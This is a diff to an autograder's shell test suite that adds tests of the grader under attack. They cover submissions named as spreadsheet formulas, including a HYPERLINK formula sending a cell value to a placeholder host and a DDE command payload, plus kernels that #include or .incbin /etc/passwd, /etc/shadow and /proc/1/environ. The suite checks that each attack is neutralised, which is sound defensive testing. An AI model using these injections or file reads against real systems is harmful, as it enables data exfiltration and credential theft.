@@ -3,14 +3,19 @@
 # archives (malformed ones refused), compile errors and rejections scored,
 # no_gpu left ungraded, the reports well-formed (results.json keys, JUnit
 # against tests/grade/junit.xsd, CSV parsed), shards + merge equal to one
-# run, resume, exit codes, the sandbox's isolation, the calibration of the
-# targets (on a GPU), and the two check options grade.sh is built on
+# run, resume, exit codes, the sandbox's isolation, the grader attacked
+# (submissions named as spreadsheet formulas, host files read through the
+# compiler, a fallback to root's rights), the calibration of the targets
+# (on a GPU), and the two check options grade.sh is built on
 # (--build-only/--run-only and --wrap).
 # On a GPU machine the runnable kernels pass instead of being no_gpu.
 # shellcheck source=tests/lib.sh
 . "$(dirname "$0")/lib.sh"
 cd "$ROOT" || exit 1
 set -o pipefail
+# The grader's sandbox runs as nobody when the suite runs as root: nobody
+# must be able to pass through the scratch folder to its work folders.
+chmod 711 "$TMP"
 
 GRADE="$ROOT/grade.sh"
 XSD="$ROOT/tests/grade/junit.xsd"
@@ -222,6 +227,50 @@ else
 fi
 check "the summary table lists every student" test "$(grep -cE '^(alice|bob|carol|traversal) ' "$O1/summary.txt")" = 4
 
+# ---- an attacked grader: names that are spreadsheet formulas -----------------
+
+# Submissions named as formulas (OWASP's CSV injection): every text cell of
+# grades.csv a spreadsheet would evaluate (or shift) carries a leading
+# single quote, the submission's name reads back whole behind it, and the
+# summary table's student cell is guarded the same way.  Empty folders:
+# every lab is missing, so nothing is built.
+F="$TMP/formulas"
+mkdir -p "$F"
+# (A tab cannot lead a submission's name, which the grader refuses with
+# one; the unit test of the CSV writer takes that case.)
+# A name holds no '/', hence CHAR(47).
+formulas=('+1+1' '@SUM(1+1)' '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"x.example"&CHAR(47)&"?"&C2,"grades")' '-2+3'
+          $'\rCR' '=cmd|'"' -C calc'"'!A0')
+for name in "${formulas[@]}"; do mkdir -p "$F/$name"; done
+"$GRADE" --labs 01 --no-sanitize --no-calibrate -q -o "$TMP/o-formula" "$F"/* > "$TMP/o-formula.log" 2>&1
+if command -v python3 > /dev/null; then
+    bad=$(python3 -c '
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="")))
+head, body = rows[0], rows[1:]
+names = set(sys.argv[2:])
+numeric = {"score", "max_score", "graded_max_score", "labs_not_graded", "01"}
+out = []
+if len(body) != len(names):
+    out.append("%d rows for %d submissions" % (len(body), len(names)))
+for r in body:
+    for h, c in zip(head, r):
+        if h not in numeric and c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
+            out.append("%s cell %r" % (h, c))
+    sub = r[head.index("submission")]
+    if not (sub.startswith("\x27") and sub[1:] in names):
+        out.append("submission %r is not a guarded name" % sub)
+print("; ".join(out))' "$TMP/o-formula/grades.csv" "${formulas[@]}")
+    check "grades.csv: a submission or student named as a formula is a quoted text cell (${bad:-none left})" \
+        test -z "$bad" -a -s "$TMP/o-formula/grades.csv"
+else
+    skip "grades.csv: names as formulas are quoted text cells" "python3 not installed"
+fi
+# The students' lines: after the header, up to the blank line before the legend.
+students=$(awk 'NR > 1 && /^$/ { exit } NR > 1' "$TMP/o-formula/summary.txt")
+check "summary.txt: no student cell starts as a formula" \
+    test "$(wc -l <<<"$students")" = ${#formulas[@]} -a -z "$(grep -E $'^[-=+@\t\r]' <<<"$students")"
+
 # ---- roster ------------------------------------------------------------------
 
 "$GRADE" "${OPTS[@]}" --roster tests/grade/roster.csv -o "$TMP/o-roster" "$S"/* > /dev/null 2>&1
@@ -400,8 +449,81 @@ chmod +x "$TMP/fakebin/bwrap"
 out=$(PATH=$PATH_NO_BWRAP "$GRADE" "${OPTS[@]}" --sandbox bwrap -o "$TMP/o-nobw" "$S/alice" 2>&1); rc=$?
 check "--sandbox bwrap where bubblewrap cannot work exits 5" test $rc = 5 -a -n "$(grep 'does not work here' <<<"$out")"
 out=$(PATH=$PATH_NO_BWRAP "$GRADE" "${OPTS[@]}" -o "$TMP/o-nobw2" "$S/alice" 2>&1); rc=$?
-check "without a working bubblewrap: a loud warning, and grading goes on" \
-    test -n "$(grep 'NO SANDBOX' <<<"$out")" -a "$(status "$TMP/o-nobw2" alice 02)" = compile_error
+if [ "$(id -u)" = 0 ]; then
+    check "as root without a working bubblewrap: refused (5), never root's rights, and the options that choose them named" \
+        test $rc = 5 -a -n "$(grep 'REFUSED' <<<"$out")" -a -n "$(grep -- '--sandbox bwrap-root' <<<"$out")" \
+             -a -n "$(grep -- '--sandbox none' <<<"$out")" -a ! -e "$TMP/o-nobw2/students/alice/report.json"
+    out=$(PATH=$PATH_NO_BWRAP "$GRADE" "${OPTS[@]}" --sandbox none -o "$TMP/o-nobw3" "$S/alice" 2>&1); rc=$?
+    check "--sandbox none: a loud warning, and grading goes on" \
+        test -n "$(grep 'NO SANDBOX' <<<"$out")" -a "$(status "$TMP/o-nobw3" alice 02)" = compile_error
+else
+    check "without a working bubblewrap: a loud warning, and grading goes on" \
+        test -n "$(grep 'NO SANDBOX' <<<"$out")" -a "$(status "$TMP/o-nobw2" alice 02)" = compile_error
+fi
+
+# ---- an attacked grader: host files through the compiler ---------------------
+
+# A build sees the toolchain, lab.h and the student's file, not the host's
+# users: an #include or an .incbin of /etc/passwd or /etc/shadow finds
+# nothing, and no line of either file reaches any output of the grader.
+# leaked DIR: the lines (8 bytes or more) of /etc/passwd and /etc/shadow
+# that appear in a file under DIR.
+leaked() {
+    local f
+    for f in /etc/passwd /etc/shadow; do
+        [ -r "$f" ] && awk 'length >= 8' "$f"
+    done > "$TMP/host-lines"
+    [ -s "$TMP/host-lines" ] && grep -rhoF -f "$TMP/host-lines" "$1" | sort -u | head -3
+}
+H="$TMP/hostfiles"
+# attack NAME LINE: a submission whose lab 01 is the solution after LINE.
+attack() { mkdir -p "$H/$1/labs/$L1"; { printf '%s\n' "$2"; cat "$SOL1"; } > "$H/$1/labs/$L1/kernel.cu"; }
+attack include-passwd '#include "/etc/passwd"'
+attack include-shadow '#include "/etc/shadow"'
+attack incbin-passwd '__asm__(".incbin \"/etc/passwd\"");'
+attack include-root '#include "/root/.bashrc"'
+attack include-proc '#include "/proc/1/environ"'
+attack include-solution "#include \"$SOL1\""
+hostfile_checks() {  # MODE OUT: the checks on one grading of $H
+    local mode=$1 o=$2 leak
+    leak=$(leaked "$o")
+    check "$mode: no line of /etc/passwd or /etc/shadow in any output of the grader${leak:+ (found: $leak)}" \
+        test -z "$leak" -a -d "$o/students"
+    check "$mode: an .incbin of /etc/passwd does not assemble (the file is not in the build's view)" \
+        test "$(status "$o" incbin-passwd 01)" = compile_error \
+             -a -n "$(grep -rl 'file not found: /etc/passwd' "$o/students/incbin-passwd/logs")"
+    check "$mode: an #include of /etc/passwd, /etc/shadow, /root or the reference solution finds no file" \
+        test "$(for s in include-passwd include-shadow include-root include-solution; do
+                    jq -r '.labs[0].text' "$o/students/$s/report.json" | grep -q 'No such file or directory' && echo -n y
+                done)" = yyyy
+    check "$mode: the grader's environment is not in any output (an #include of /proc/1/environ)" \
+        test -z "$(grep -rl "hunter2-$$" "$o")" -a -e "$o/students/include-proc/report.json"
+}
+if [ "$sandbox" = none ]; then
+    skip "the build's view of the system" "bubblewrap does not work here"
+else
+    GRADER_SECRET_TOKEN=hunter2-$$ "$GRADE" --labs 01 --no-sanitize --no-calibrate -q -o "$TMP/o-host" "$H"/* \
+        > "$TMP/o-host.log" 2>&1
+    check "the probe looked for the host's users' files from inside a build (build-view-closed)" \
+        test "$(jq '.sandbox_checks | index("build-view-closed") != null' "$TMP/o-host/run.json")" = true
+    hostfile_checks "$(jq -r .sandbox "$TMP/o-host/run.json")" "$TMP/o-host"
+fi
+# As root with the nobody mode failing (an output folder that nobody
+# cannot reach): refused, unless --sandbox bwrap-root asks for bubblewrap
+# as root, whose build sees no more of the host than nobody's.
+if [ "$(id -u)" = 0 ] && [ "$sandbox" = bwrap-nobody ]; then
+    mkdir -m 700 "$TMP/rootonly"
+    out=$("$GRADE" --labs 01 --no-sanitize --no-calibrate -q -o "$TMP/rootonly/o" "$H"/* 2>&1); rc=$?
+    check "as root, the nobody sandbox failing: refused (5), never a fallback to root" \
+        test $rc = 5 -a -n "$(grep REFUSED <<<"$out")" -a -z "$(find "$TMP/rootonly/o/students" -name report.json)"
+    GRADER_SECRET_TOKEN=hunter2-$$ "$GRADE" --labs 01 --no-sanitize --no-calibrate -q --sandbox bwrap-root \
+        -o "$TMP/rootonly/o" "$H"/* > "$TMP/o-root.log" 2>&1
+    check "--sandbox bwrap-root: bubblewrap as root, chosen on the command line" \
+        test "$(jq -r .sandbox "$TMP/rootonly/o/run.json")" = bwrap
+    hostfile_checks "bwrap as root" "$TMP/rootonly/o"
+else
+    skip "as root, the nobody sandbox failing: refused unless --sandbox bwrap-root" "not root, or no nobody sandbox here"
+fi
 
 # ---- check --build-only / --run-only / --wrap ---------------------------------
 
